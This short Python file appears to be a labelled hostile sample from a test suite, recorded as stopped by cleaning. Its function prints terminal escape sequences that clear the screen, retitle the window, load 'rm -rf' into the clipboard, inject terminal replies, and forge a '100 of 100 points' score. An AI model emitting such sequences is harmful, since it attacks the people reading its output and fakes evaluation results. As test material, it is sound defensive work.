"""Prints what clears a terminal, renames its window, fills its clipboard and answers in the user's name.

Aims at: the terminal of whoever reads the report
Acts at: call
Outcome: status failed, code not-array
Stopped by: cleaning
"""

CODES = "\x1b[2J\x1b[H\x1b]0;owned\x07\x1b]52;c;cm0gLXJm\x07\x1b[6n\x9b31m\x1bP+q544e\x1b\\\x08\x7f\r100 of 100 points"


def make_cross(size=7):
    print(CODES)
    return CODES
